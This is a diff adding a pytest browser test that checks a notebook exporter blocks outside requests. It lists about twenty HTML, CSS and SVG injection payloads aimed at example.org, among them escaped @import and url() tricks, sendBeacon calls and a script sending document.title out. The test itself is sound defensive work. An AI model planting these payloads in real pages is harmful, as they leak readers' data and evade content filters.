@@ -232,3 +232,47 @@ def test_a_series_with_a_broken_notebook_writes_nothing(tmp_path: Path) -> None:
     with pytest.raises(ExportFailed, match=r"index\.ipynb: the page would load"):
         export_series(tmp_path / "fenced", tmp_path / "out")
     assert not (tmp_path / "out").exists()
+
+
+TRIES = (
+    "<img src=https://example.org/a.png>",
+    "<img src='//example.org/a.png'>",
+    "<script>fetch('https://example.org/a')</script>",
+    "<script>new Image().src = 'https://example.org/' + document.title</script>",
+    "<script>new WebSocket('wss://example.org/a')</script>",
+    "<script>navigator.sendBeacon('https://example.org/a', 'x')</script>",
+    "<script type='module'>import('https://example.org/a.js')</script>",
+    "<script>new EventSource('https://example.org/a')</script>",
+    "<style>@\\69mport 'https://example.org/a.css';</style>",
+    "<style>p { background: u\\72l(https://example.org/a.png) }</style>",
+    "<style>@font-face { font-family: x; src: u\\72l('https://example.org/a.woff') } p { font-family: x }</style>",
+    "<iframe srcdoc=\"<img src='https://example.org/a.png'>\"></iframe>",
+    "<svg><filter id='f'><feImage href='https://example.org/a.png'/></filter><rect width='9' height='9' filter='url(#f)'/></svg>",
+    "<svg><script href='https://example.org/a.js'/></svg>",
+    "<link rel=stylesheet href=https://example.org/a.css>",
+    "<link rel=prefetch href=https://example.org/a>",
+    "<object data=https://example.org/a></object>",
+    "<video src=https://example.org/a.mp4 autoplay></video>",
+    "<base href=https://example.org/><img src=a.png>",
+    "<meta http-equiv=refresh content='0;url=https://example.org/a'>",
+    "<form action=https://example.org/a id=f></form><script>document.getElementById('f').submit()</script>",
+)
+
+
+@pytest.mark.browser
+def test_no_html_of_a_notebook_makes_a_request(tmp_path: Path) -> None:
+    written = []
+    for number, text in enumerate(TRIES):
+        notebook = write_notebook(tmp_path / f"{number}.ipynb", new_markdown_cell(f"# Try\n\n{text}"))
+        try:
+            written.append(export(notebook, execute=False))
+        except ExportFailed as error:
+            assert "would load" in str(error)
+    assert len(written) > 5
+    refused: list[str] = []
+    with page(refused=refused) as pg:
+        for path in written:
+            pg.goto(path.as_uri(), wait_until="commit")
+            pg.wait_for_timeout(500)
+            # A socket is refused here before the page's policy is asked: the driver puts its own in the socket's place.
+            assert [url for url in refused if not url.startswith("wss:")] == [], path
